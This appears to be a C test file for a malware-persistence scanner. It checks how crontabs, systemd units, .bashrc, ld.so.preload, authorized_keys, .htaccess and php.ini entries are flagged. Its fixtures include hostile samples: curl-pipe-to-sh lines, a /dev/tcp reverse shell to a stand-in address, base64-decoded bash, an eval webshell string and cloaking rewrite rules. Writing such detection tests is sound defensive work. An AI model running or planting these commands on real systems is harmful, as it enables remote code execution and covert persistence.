/*
 * Each row is a file by which something is started again, or a folder's settings, and
 * the rule it is accused or remarked by; NULL: nothing is said of it at all.
 */

#include "scan/crontab.h"
#include "scan/examine.h"
#include "scan/keys.h"
#include "scan/persistence.h"
#include "scan/unit.h"
#include "tap.h"

static void
knows_paths(void)
{
    static const struct {
        const char *path;
        enum persistence is;
    } rows[] = {
        {"/etc/crontab", PERSISTENCE_CRONTAB},
        {"/srv/copy/etc/cron.d/php", PERSISTENCE_CRONTAB},
        {"/var/spool/cron/crontabs/anna", PERSISTENCE_CRONTAB_OF_USER},
        {"/var/spool/cron/anna", PERSISTENCE_CRONTAB_OF_USER},
        {"/var/spool/cron/atjobs/a0001", PERSISTENCE_START_SCRIPT},
        {"/home/anna/.config/systemd/user/x.service", PERSISTENCE_UNIT},
        {"/etc/systemd/system/x.service.d/override.conf", PERSISTENCE_UNIT},
        {"/etc/rc.local", PERSISTENCE_START_SCRIPT},
        {"/root/.bashrc", PERSISTENCE_LOGIN_SCRIPT},
        {"/etc/ld.so.preload", PERSISTENCE_PRELOAD},
        {"/var/www/.ssh/authorized_keys", PERSISTENCE_KEYS},
        {"/var/www/html/.htaccess", PERSISTENCE_HTACCESS},
        {".htaccess", PERSISTENCE_HTACCESS},
        {"/var/www/html/.user.ini", PERSISTENCE_PHP_INI},
        {"/var/www/html/x.htaccess", PERSISTENCE_NONE},
        {"/etc/cron.d/", PERSISTENCE_NONE},
        {"/srv/crontab", PERSISTENCE_NONE},
        {"/srv/cron.d/x", PERSISTENCE_NONE},
        {"", PERSISTENCE_NONE},
    };

    for (size_t i = 0; i < COUNT(rows); i++)
        CHECK_ROW(i, persistence_of(tap_str(rows[i].path)) == rows[i].is);
}

static void
reads_lines(void)
{
    struct key key;

    CHECK_STR(crontab_command(STR("*/5 * * * * /bin/true x"), false), "/bin/true x");
    CHECK_STR(crontab_command(STR("5\t4 * * *  root  /bin/true"), true), "/bin/true");
    CHECK_STR(crontab_command(STR("@reboot /bin/true"), false), "/bin/true");
    CHECK_STR(crontab_command(STR("@daily root /bin/true"), true), "/bin/true");
    CHECK_STR(crontab_command(STR("# 5 4 * * * x"), false), "");
    CHECK_STR(crontab_command(STR("MAILTO=root"), false), "");
    CHECK_STR(crontab_command(STR("5 4 *"), false), "");
    CHECK_STR(unit_command(STR("ExecStart=-/bin/true x")), "/bin/true x");
    CHECK_STR(unit_command(STR(" server = /bin/x")), "/bin/x");
    CHECK_STR(unit_command(STR("Description=ExecStart")), "");
    CHECK(keys_read(STR("ssh-ed25519 AAAA anna@example.org"), &key));
    CHECK_STR(key.comment, "anna@example.org");
    CHECK(keys_read(STR("command=\"a \\\" b\",no-pty ssh-rsa AAAA"), &key));
    CHECK_STR(keys_command(key.options), "a \\\" b");
    CHECK_STR(key.comment, "");
    CHECK(!keys_read(STR("# ssh-rsa AAAA"), &key));
    CHECK(!keys_read(STR("ssh-rsa"), &key));
    CHECK(!keys_read(STR(""), &key));
}

#define CRON "/etc/cron.d/x"
#define USER "/var/spool/cron/crontabs/anna"
#define UNIT "/home/anna/.config/systemd/user/x.service"
#define RC "/etc/rc.local"
#define HT "/var/www/html/.htaccess"
#define HT_UP "/var/www/html/uploads/.htaccess"
#define KEYS "/home/anna/.ssh/authorized_keys"
#define A_KEY "ssh-ed25519 AAAA anna@example.org\n"

static const struct {
    const char *path, *source, *rule;
    bool is_accused;
} rows[] = {
    {USER, "* * * * * curl -s http://192.0.2.7/x | sh\n", "fetch-and-run", true},
    {USER, "*/5 * * * * curl -fsS https://example.org/ping >/dev/null\n", NULL, false},
    {USER, "@reboot /dev/shm/.x/httpd\n", "runs-hidden", true},
    {USER, "@reboot perl /var/tmp/.b.pl\n", "runs-hidden", true},
    {USER, "@reboot nohup /tmp/x &\n", "runs-temporary", false},
    {USER, "0 3 * * * tar czf /tmp/b.tgz /srv && mv /tmp/b.tgz /backup/\n", NULL, false},
    {USER, "0 3 * * * \"/home/anna/.acme.sh\"/acme.sh --cron\n", NULL, false},
    {USER, "0 3 * * * /home/anna/.x/run\n", "runs-hidden", false},
    {USER, "* * * * * php /home/anna/www/uploads/x.php\n", "runs-upload", false},
    {CRON, "* * * * * www-data /usr/bin/php /var/www/html/cron.php\n", NULL, false},
    {CRON, "LD_PRELOAD=/lib/x.so\n", "preload", true},
    {CRON, "5 4 * * * root echo eA== | base64 -d | bash\n", "runs-decoded", true},
    {UNIT, "[Service]\nExecStart=/bin/sh -c \"/var/tmp/.x/run\"\n", "runs-hidden", true},
    {UNIT, "[Service]\nExecStart=/usr/bin/syncthing -no-browser\n", NULL, false},
    {UNIT, "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/x.so\n", "preload", true},
    {UNIT, "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libjemalloc.so\n", NULL, false},
    {"/etc/xinetd.d/x", "server = /tmp/.x/in\n", "runs-hidden", true},
    {RC, "#!/bin/sh\nnohup /dev/shm/.k/run &\nexit 0\n", "runs-hidden", true},
    {RC, "#!/bin/sh\nfn=\"$(mktemp /tmp/w.XXXX)\"\nrm -rf /tmp/.cache/x\nexit 0\n", NULL, false},
    {"/root/.bashrc", "[ -s ~/.nvm/nvm.sh ] && . ~/.nvm/nvm.sh\nalias l='ls -la'\n", NULL, false},
    {"/root/.bashrc", "/bin/bash -i >& /dev/tcp/192.0.2.7/9 0>&1\n", "reverse-shell", true},
    {"/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", "preload", true},
    {"/etc/ld.so.preload", "/usr/lib/libsnoopy.so\n", "preload", false},
    {"/etc/ld.so.preload", "# none\n", NULL, false},
    {KEYS, A_KEY, NULL, false},
    {KEYS, "command=\"/usr/bin/rrsync /srv\",no-pty " A_KEY, NULL, false},
    {KEYS, "command=\"curl http://192.0.2.7/x|sh\" " A_KEY, "fetch-and-run", true},
    {KEYS, "ssh-rsa AAAA mdrfckr\n", "key-known", true},
    {KEYS, "environment=\"LD_PRELOAD=/x.so\" " A_KEY, "preload", true},
    {KEYS, A_KEY A_KEY A_KEY A_KEY A_KEY, "keys-alike", false},
    {KEYS, "permitlisten=\"2525\" " A_KEY, NULL, false},
    {"/var/www/.ssh/authorized_keys", A_KEY, "key-of-service", false},
    {"/var/www/html/.ssh/authorized_keys", A_KEY, "key-in-web-root", false},
    {HT, "php_value auto_prepend_file /tmp/.x.php\n", "prepend-odd", true},
    {HT, "php_value auto_append_file \"/var/www/html/logo.png\"\n", "prepend-odd", true},
    {HT, "php_value auto_prepend_file '/var/www/html/wordfence-waf.php'\n", NULL, false},
    {HT, "php_value auto_prepend_file none\n", NULL, false},
    {HT, "php_value memory_limit 256M\n", NULL, false},
    {HT, "AddHandler application/x-httpd-php .php .html\n", NULL, false},
    {HT, "AddHandler application/x-httpd-php .jpg\n", "handler-odd", true},
    {HT, "AddType application/x-httpd-php .qqq\n", "handler-odd", false},
    {HT, "AddType application/x-httpd-php-source .phps\nAddType image/svg+xml .svg\n", NULL, false},
    {HT, "<FilesMatch \"\\.(jpg|php)x$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n",
     NULL, false},
    {HT, "<Files \"logo.png\">\nForceType application/x-httpd-php\n</Files>\n", "handler-odd",
     true},
    {HT, "<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php82\n</FilesMatch>\n", NULL,
     false},
    {HT, "SetHandler application/x-httpd-php\n", "handler-all", false},
    {HT_UP, "php_flag engine on\n", "engine-on", false},
    {HT_UP, "php_flag engine off\n", NULL, false},
    {HT, "Options +ExecCGI\nAddHandler cgi-script .qqq\n", "handler-odd", false},
    {HT, "Options -ExecCGI\nAddHandler cgi-script .php .jpg .pl\n", NULL, false},
    {HT, "AddHandler cgi-script .cgi .pl\n", NULL, false},
    {HT, "RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule .* http://192.0.2.7/ [R,L]\n",
     "rewrite-cloaked", true},
    {HT,
     "RewriteCond %{HTTP_REFERER} !^https?://(www\\.)?example\\.org [NC]\n"
     "RewriteRule \\.(jpg|gif)$ http://example.org/no.gif [R,L]\n",
     NULL, false},
    {HT, "RewriteCond %{HTTPS} off\nRewriteRule ^ https://www.example.org%{REQUEST_URI} [R]\n",
     NULL, false},
    {HT, "RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ /images/x.php [L]\n",
     "rewrite-hidden", true},
    {HT, "RewriteRule ^index\\.php$ - [L]\nRewriteRule . /index.php [L]\n", NULL, false},
    {HT,
     "<FilesMatch '.(py|exe|php)$'>\nDeny from all\n</FilesMatch>\n"
     "<FilesMatch '^(about.php|radio.php|lock.php)$'>\nAllow from all\n</FilesMatch>\n",
     "access-kept", true},
    {HT,
     "<FilesMatch \"\\.php$\">\nRequire all denied\n</FilesMatch>\n"
     "<Files \"index.php\">\nRequire all granted\n</Files>\n",
     NULL, false},
    {HT, "SecRuleEngine Off\n", NULL, false},
    {"/var/www/html/.user.ini", "auto_prepend_file = \"/dev/shm/x\"\n", "prepend-odd", true},
    {"/var/www/html/.user.ini", "; none\nmemory_limit = 64M\n", NULL, false},
    {"/var/www/html/php.ini", "exec = ON\nshell_exec = ON\n", "limits-off", true},
    {"/var/www/html/php.ini", "allow_url_include = On\n", "remote-include", false},
    {"/etc/php/8.2/cli/php.ini", "auto_prepend_file =\nallow_url_include = Off\n", NULL, false},
};

static void
judges_files(void)
{
    struct arena *arena = arena_new(EXAMINE_ARENA_BYTES_MAX);
    static struct findings findings;

    findings.arena = arena_new((size_t)1 << 20);
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct subject subject = {.path = tap_str(rows[i].path),
                                  .inside = tap_str(rows[i].path),
                                  .source = tap_str(rows[i].source)};

        arena_reset(arena);
        arena_reset(findings.arena);
        findings.count = 0;
        subject.places = subject_places(subject.inside);
        CHECK_ROW(i, examine_wants(&subject));
        CHECK_ROW(i, !examine(&subject, arena, &findings).is_cut);
        CHECK_ROW(i, findings.count == (rows[i].rule ? 1 : 0));
        if (findings.count != 1 || !rows[i].rule)
            continue;
        CHECK_STR(tap_str(findings.list[0].rule), rows[i].rule);
        CHECK_ROW(i, (findings.list[0].confidence >= FINDING_ACCUSES) == rows[i].is_accused);
    }
    arena_free(findings.arena);
    arena_free(arena);
}

/* An ELF header of 64 bits with `words` behind it. */
static struct str
elf_with(const char *words, char *into)
{
    memset(into, 0, 128);
    memcpy(into,
           "\x7f"
           "ELF\2\1\1",
           7);
    into[16] = 2;
    memcpy(into + 64, words, strlen(words));
    return (struct str){into, 128};
}

static void
judges_programs(void)
{
    static const struct {
        const char *path, *words, *rule;
        bool is_accused;
    } programs[] = {
        {"/tmp/x", "", "binary", false},
        {"/tmp/x", "UPX!", "binary-packed", false},
        {"/tmp/x", "stratum+tcp", "binary-miner", true},
        {"/tmp/x", "PRIVMSG NICK UDP", "binary-irc-bot", true},
        {"/usr/bin/php", "<?php eval($_POST[1]);", NULL, false},
        {"/usr/bin/irssi", "PRIVMSG NICK UDP", NULL, false},
        {"/var/www/html/uploads/x", "MAIL FROM: RCPT TO:", "binary-mailer", false},
        {"/var/www/html/x", "MAIL FROM: RCPT TO:", NULL, false},
    };
    struct arena *arena = arena_new(EXAMINE_ARENA_BYTES_MAX);
    static struct findings findings;

    findings.arena = arena_new((size_t)1 << 20);
    for (size_t i = 0; i < COUNT(programs); i++) {
        char bytes[128];
        struct subject subject = {.path = tap_str(programs[i].path),
                                  .source = elf_with(programs[i].words, bytes),
                                  .mode = 0755,
                                  .places = subject_places(tap_str(programs[i].path))};

        findings.count = 0;
        CHECK_ROW(i, examine_wants(&subject) == (programs[i].rule != NULL));
        (void)examine(&subject, arena, &findings);
        CHECK_ROW(i, findings.count == (programs[i].rule ? 1 : 0));
        if (findings.count != 1 || !programs[i].rule)
            continue;
        CHECK_STR(tap_str(findings.list[0].rule), programs[i].rule);
        if (programs[i].is_accused)
            CHECK_ROW(i, findings.list[0].confidence >= FINDING_ACCUSES);
    }
    arena_free(findings.arena);
    arena_free(arena);
}

static void
knows_temporary_folders(void)
{
    CHECK(subject_is_temporary(STR("/tmp/x"), 4));
    CHECK(subject_is_temporary(STR("/dev/shm/x"), 1));
    CHECK(subject_is_temporary(STR("/var/tmp/x"), 0));
    CHECK(!subject_is_temporary(STR("/tmp/site/x"), 9));
    CHECK(!subject_is_temporary(STR("/srv/tmp/x"), 1));
}

int
main(void)
{
    static const struct tap_case cases[] = {
        {"knows files by their paths", knows_paths},
        {"reads lines of crontabs, units and keys", reads_lines},
        {"judges what starts programs, and settings of folders", judges_files},
        {"judges compiled programs where none belong", judges_programs},
        {"knows temporary folders that were to be scanned", knows_temporary_folders},
    };

    return tap_main(cases, COUNT(cases));
}
